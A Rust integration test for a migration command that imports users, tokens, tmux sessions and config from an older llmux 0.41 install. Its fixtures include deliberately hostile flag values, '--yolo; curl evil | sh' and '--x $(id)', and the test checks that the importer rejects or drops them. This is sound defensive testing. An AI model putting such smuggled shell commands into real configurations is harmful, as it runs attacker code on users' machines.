//! `llmux import llmux-0.41` against an install the real 0.41.1 package made with its own CLI
//! and its own daemon (HTTP API, settings page), run on a private HOME and tmux server:
//! users with scrypt passphrases, an admin, v2 tokens, sessions with flags, env and init
//! prompts running in its tmux server, and a config file.

use std::process::{Command, Output, Stdio};

use hyper::Method;
use llmux_api::SessionStatus;
use llmux_auth::store::AuthStore;
use llmux_core::store::Store;
use serde_json::{Value, json};

use crate::harness::old_llmux::{self, OldLlmux};
use crate::harness::{TestDaemon, call, local, login_cookie_with, post_json};

/// A config file as 0.41 users wrote it.
const OLD_CONFIG: &str = "server:\n  port: 4100\n  noQr: true\n  token: unused\n\
agents:\n  claude:\n    flags: \"--model opus\"\n    models: [opus, sonnet]\n  \
gemini:\n    flags: \"--yolo; curl evil | sh\"\n\
initPrompts:\n  - read the README\n\
sessions:\n  - name: auto\n    agent: claude\n\
turnq:\n  enabled: true\n";

/// Runs our `llmux import llmux-0.41 ARGS --json` against `d`'s state dir, in the old
/// install's environment.
fn import(d: &TestDaemon, old: &OldLlmux, args: &[&str]) -> Output {
    let mut cmd = Command::new(crate::harness::bin());
    old.env(&mut cmd);
    cmd.arg("--state-dir")
        .arg(&d.paths.state_dir)
        .args(["import", "llmux-0.41"])
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("run llmux import")
}

fn import_json(d: &TestDaemon, old: &OldLlmux, args: &[&str]) -> Value {
    let mut all = args.to_vec();
    all.push("--json");
    let out = import(d, old, &all);
    assert!(
        out.status.success(),
        "import {args:?} failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON plan")
}

fn item<'a>(plan: &'a Value, kind: &str, key: &str, value: &str) -> &'a Value {
    plan[kind]
        .as_array()
        .and_then(|items| items.iter().find(|i| i[key] == value))
        .unwrap_or_else(|| panic!("no {kind} with {key} {value} in {plan:#}"))
}

fn actions(plan: &Value, kind: &str) -> Vec<(String, String)> {
    let key = match kind {
        "users" => "username",
        "tokens" => "id",
        _ => "name",
    };
    plan[kind]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i[key].as_str().unwrap().to_owned(), i["action"].as_str().unwrap().to_owned()))
        .collect()
}

/// The length of a list response (a bare array, or one under `key`).
fn count(v: &Value, key: &str) -> usize {
    v.as_array().or_else(|| v[key].as_array()).unwrap_or_else(|| panic!("no list in {v}")).len()
}

/// The token value in `token create`'s output.
fn token_value(out: &str) -> String {
    out.split_whitespace().find(|w| w.starts_with("sas_")).expect("a sas_ token").to_owned()
}

struct Fixture {
    d: TestDaemon,
    old: OldLlmux,
    bob_token: String,
    alice_token: String,
}

/// Our daemon (no users yet, the stand-in agents on its PATH) and an old install in its HOME
/// made by 0.41's own CLI.
async fn fixture() -> Option<Fixture> {
    let bin = old_llmux::find()?;
    let tmp = tempfile::Builder::new().prefix("lx").tempdir_in("/tmp").unwrap().keep();
    let old_home = tmp.join("oldhome");
    std::fs::create_dir_all(&old_home).unwrap();
    let path = format!("{}:{}", old_home.join("old-bin").display(), std::env::var("PATH").unwrap());
    let d = TestDaemon::builder().env("PATH", &path).start().await;
    let old = OldLlmux::new(bin, &old_home, &tmp.join("tmux"));
    let work = d.work().display().to_string();
    old.ok(&[
        "user",
        "create",
        "alice",
        "--name",
        "Alice A",
        "--admin",
        "--passphrase",
        "alice passphrase 1",
    ]);
    old.ok(&["user", "create", "bob", "--passphrase", "bob passphrase 12"]);
    let bob_token =
        token_value(&old.ok(&["token", "create", "--username", "bob", "--name", "bob laptop"]));
    let alice_token = token_value(&old.ok(&[
        "token",
        "create",
        "--username",
        "alice",
        "--name",
        "ci",
        "--expiry",
        "2099-01-01T00:00:00.000Z",
    ]));
    old.ok(&[
        "session",
        "start",
        "claude",
        "--name",
        "work",
        "--cwd",
        &work,
        "--flags",
        "--model opus --verbose",
        "--env",
        "FOO=bar baz\nEMPTY=",
        "--init",
        "hello there",
        "--skip-init",
    ]);
    old.ok(&[
        "session",
        "start",
        "codex",
        "--name",
        "shelly",
        "--cwd",
        &work,
        "--flags",
        "--x $(id)",
        "--skip-init",
    ]);
    // The old daemon, through its HTTP API: a session made by the web UI, and the settings
    // page's init prompts and turnq (its overrides.yaml); then stopped.
    {
        let daemon = old.serve();
        let body = json!({"agent": "codex", "name": "web1", "cwd": work, "flags": "--model gpt-5", "env": "A=1\nB=two words"});
        let (status, res) = daemon.call(&bob_token, "POST", "/api/sessions", &body);
        assert_eq!(status, 200, "{res}\n{}", daemon.log());
        let body = json!({"initPrompts": ["from the settings page"]});
        let (status, res) = daemon.call(&alice_token, "PUT", "/api/settings/init-prompts", &body);
        assert_eq!(status, 200, "{res}");
        let (status, res) =
            daemon.call(&alice_token, "PUT", "/api/settings/turnq", &json!({"enabled": true}));
        assert_eq!(status, 200, "{res}");
    }
    let conf = old_home.join(".config/llmux");
    std::fs::create_dir_all(&conf).unwrap();
    std::fs::write(conf.join("config.yaml"), OLD_CONFIG).unwrap();
    assert_eq!(
        old.tmux_sessions(),
        ["shelly", "web1", "work"],
        "0.41 runs its sessions in its own tmux"
    );
    Some(Fixture { d, old, bob_token, alice_token })
}

fn stored_hash(d: &TestDaemon, user: &str) -> String {
    Store::open(&d.paths.db).unwrap().get_user(user).unwrap().unwrap().passphrase_hash
}

#[tokio::test]
async fn an_install_made_by_llmux_0_41_comes_over() {
    let Some(Fixture { mut d, old, bob_token, alice_token }) = fixture().await else { return };
    let config_target = old.home.join(".config/llmux/config.yaml");

    // ---- dry run (while the daemon runs): the whole plan, nothing changed
    let plan = import_json(&d, &old, &["--dry-run"]);
    assert_eq!(plan["dryRun"], true);
    assert_eq!(
        actions(&plan, "users"),
        [("alice".into(), "import".into()), ("bob".into(), "import".into())]
    );
    assert_eq!(item(&plan, "users", "username", "alice")["admin"], true);
    assert_eq!(item(&plan, "users", "username", "bob")["admin"], false);
    let bob_id = bob_token.split('.').next().unwrap().to_owned();
    let alice_id = alice_token.split('.').next().unwrap().to_owned();
    assert_eq!(item(&plan, "tokens", "id", &bob_id)["scope"], "user");
    assert_eq!(item(&plan, "tokens", "id", &alice_id)["scope"], "admin");
    assert_eq!(item(&plan, "tokens", "id", &alice_id)["expiresAt"], "2099-01-01T00:00:00Z");
    let work = item(&plan, "sessions", "name", "work");
    assert_eq!(work["action"], "import");
    assert_eq!(work["env"], json!(["EMPTY", "FOO"]), "env names only: values may be secrets");
    let moving = work["running"]["command"].as_str().expect("a move command for a running session");
    assert!(
        moving.contains("kill-session -t '=work'") && moving.contains("session restart work"),
        "{moving}"
    );
    let shelly = item(&plan, "sessions", "name", "shelly");
    assert_eq!(shelly["action"], "refused");
    assert!(shelly["notes"][0].as_str().unwrap().contains("need a shell"), "{shelly}");
    let config = &plan["config"][0];
    assert_eq!(config["action"], "write");
    let dropped: Vec<&str> =
        config["dropped"].as_array().unwrap().iter().map(|k| k["key"].as_str().unwrap()).collect();
    for key in [
        "server.noQr",
        "server.token",
        "agents.claude.models",
        "agents.gemini.flags",
        "sessions",
        "turnq",
    ] {
        assert!(dropped.contains(&key), "{key} reported dropped: {dropped:?}");
    }
    let (status, users) = local(&d, Method::GET, "/api/admin/users", Value::Null).await;
    assert_eq!((status, count(&users, "users")), (200, 0), "dry run added no user: {users}");
    assert_eq!(
        std::fs::read_to_string(&config_target).unwrap(),
        OLD_CONFIG,
        "dry run wrote no config"
    );
    let text = import(&d, &old, &["--dry-run"]);
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("Dry run") && text.contains("refused         shelly"), "{text}");

    // ---- the real import refuses to run beside the daemon
    let out = import(&d, &old, &[]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("stop it first"), "{out:?}");

    d.kill("TERM");
    let plan = import_json(&d, &old, &[]);
    assert_eq!(plan["dryRun"], false);
    d.spawn_daemon().await;

    // ---- passphrases: the old one signs in, and is then stored as Argon2id
    assert!(stored_hash(&d, "bob").starts_with("scrypt$131072$"));
    let (status, _) = post_json(
        &d,
        "/api/auth/login",
        &[],
        json!({"username": "bob", "passphrase": "wrong passphrase"}),
    );
    assert_eq!(status, 401);
    login_cookie_with(&d, "bob", "bob passphrase 12");
    assert!(stored_hash(&d, "bob").starts_with("$argon2id$"), "replaced at the sign-in");
    login_cookie_with(&d, "bob", "bob passphrase 12");
    let (status, me) = call(&d, &alice_token, "GET", "/api/auth/whoami", Value::Null);
    assert_eq!((status, me["admin"].clone()), (200, json!(true)), "{me}");

    // ---- tokens work as they are, are listed as imported, and revocable
    let (status, list) = call(&d, &bob_token, "GET", "/api/tokens", Value::Null);
    assert_eq!(status, 200, "{list}");
    let listed = &list["tokens"][0];
    assert_eq!(
        (listed["id"].as_str(), listed["importedFrom"].as_str()),
        (Some(bob_id.as_str()), Some("llmux 0.41"))
    );
    assert_eq!(listed["name"], "bob laptop");
    let (status, _) = call(&d, &bob_token, "GET", "/api/admin/users", Value::Null);
    assert_eq!(status, 403, "a non-admin's old token is a user token");
    let cli = d.cli_ok(&["token", "list", "--all"]);
    assert!(cli.contains(&bob_id) && cli.contains("imported from llmux 0.41"), "{cli}");
    let forged = format!("{bob_id}.{}", "A".repeat(43));
    assert_eq!(call(&d, &forged, "GET", "/api/tokens", Value::Null).0, 401);
    d.cli_ok(&["token", "revoke", &bob_id]);
    assert_eq!(call(&d, &bob_token, "GET", "/api/tokens", Value::Null).0, 401, "revoked");

    // ---- sessions: agent, cwd, flags, env, init prompts, conversation
    let (status, s) = local(&d, Method::GET, "/api/sessions/work", Value::Null).await;
    assert_eq!(status, 200, "{s}");
    assert_eq!(
        (s["agent"].as_str(), s["cwd"].as_str()),
        (Some("claude"), Some(d.work().to_str().unwrap()))
    );
    assert_eq!(s["flags"], "--model opus --verbose");
    assert_eq!(s["env"], json!({"EMPTY": "", "FOO": "bar baz"}));
    assert_eq!(s["initPrompts"], json!(["hello there"]));
    assert_eq!(s["status"], "exited", "it still runs in 0.41's tmux, not ours");
    assert_eq!(local(&d, Method::GET, "/api/sessions/shelly", Value::Null).await.0, 404);
    let (status, s) = local(&d, Method::GET, "/api/sessions/web1", Value::Null).await;
    assert_eq!(status, 200, "{s}");
    assert_eq!((s["agent"].as_str(), s["flags"].as_str()), (Some("codex"), Some("--model gpt-5")));
    assert_eq!(s["env"], json!({"A": "1", "B": "two words"}));

    // the settings page's init prompts are llmux's settings now; its turnq is dropped
    let overlay = llmux_core::config::Overlay::load(&d.paths.overlay).unwrap();
    assert_eq!(overlay.init_prompts.unwrap(), ["from the settings page"]);
    assert_eq!(plan["overlay"][0]["dropped"][0]["key"], "overrides.turnq");

    // ---- the config: translated in place, the old file kept beside it
    let written = std::fs::read_to_string(&config_target).unwrap();
    let parsed = llmux_core::config::parse(&written).unwrap();
    assert_eq!(parsed.server.port, Some(4100));
    assert_eq!(parsed.agents["claude"].flags.as_deref(), Some("--model opus"));
    assert!(!parsed.agents.contains_key("gemini"), "shell flags are not carried over: {written}");
    assert_eq!(parsed.init_prompts, ["read the README"]);
    let backup = old.home.join(".config/llmux/config.yaml.llmux-0.41");
    assert_eq!(std::fs::read_to_string(backup).unwrap(), OLD_CONFIG);

    // ---- a second import adds nothing
    d.kill("TERM");
    let again = import_json(&d, &old, &[]);
    d.spawn_daemon().await;
    assert_eq!(
        actions(&again, "users"),
        [("alice".into(), "already-present".into()), ("bob".into(), "already-present".into())]
    );
    assert_eq!(item(&again, "sessions", "name", "work")["action"], "already-present");
    assert_eq!(item(&again, "tokens", "id", &alice_id)["action"], "already-present");
    let revoked = item(&again, "tokens", "id", &bob_id);
    assert_eq!(revoked["action"], "refused", "a revoked token is not brought back: {revoked}");
    assert_eq!(call(&d, &bob_token, "GET", "/api/tokens", Value::Null).0, 401);
    assert_eq!(again["config"][0]["action"], "already-present");
    let (_, users) = local(&d, Method::GET, "/api/admin/users", Value::Null).await;
    assert_eq!(count(&users, "users"), 2, "{users}");
    let (_, sessions) = local(&d, Method::GET, "/api/sessions", Value::Null).await;
    assert_eq!(count(&sessions, "sessions"), 2, "{sessions}");

    // ---- the printed command moves the running session under llmux
    let path = format!(
        "{}:{}:{}",
        crate::harness::bin().parent().unwrap().display(),
        old.bin_dir.display(),
        std::env::var("PATH").unwrap()
    );
    let moved = Command::new("sh")
        .args(["-c", moving])
        .env("PATH", path)
        .env("HOME", d.home())
        .env_remove("TMUX")
        .output()
        .unwrap();
    assert!(moved.status.success(), "{moved:?}\n{}", d.log());
    assert_eq!(old.tmux_sessions(), ["shelly", "web1"]);
    d.wait_for_status("work", SessionStatus::Running).await;
}

/// Nothing to import, a remote server, a missing --from dir: clear errors, nothing written.
#[tokio::test]
async fn nothing_to_import_and_misuse_are_clear_errors() {
    let d = TestDaemon::start().await;
    let empty = d.dir().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let run = |args: &[&str]| {
        let mut cmd = Command::new(crate::harness::bin());
        cmd.env_remove("LLMUX_STATE_DIR")
            .env("HOME", d.home())
            .arg("--state-dir")
            .arg(&d.paths.state_dir)
            .args(["import", "llmux-0.41"])
            .args(args)
            .stdin(Stdio::null());
        let out = cmd.output().unwrap();
        assert!(!out.status.success(), "{args:?} must fail");
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let err = run(&["--dry-run", "--from", empty.to_str().unwrap()]);
    assert!(err.contains("no llmux 0.41 install found"), "{err}");
    let err = run(&["--dry-run"]);
    assert!(err.contains("no llmux 0.41 install found") && err.contains("--from"), "{err}");
    let err = run(&["--from", "/nonexistent/old"]);
    assert!(err.contains("not a directory"), "{err}");
    let err = run(&["--dry-run", "--server", "http://127.0.0.1:1"]);
    assert!(err.contains("does not take --server"), "{err}");
    let (_, users) = local(&d, Method::GET, "/api/admin/users", Value::Null).await;
    assert_eq!(count(&users, "users"), 0);
}
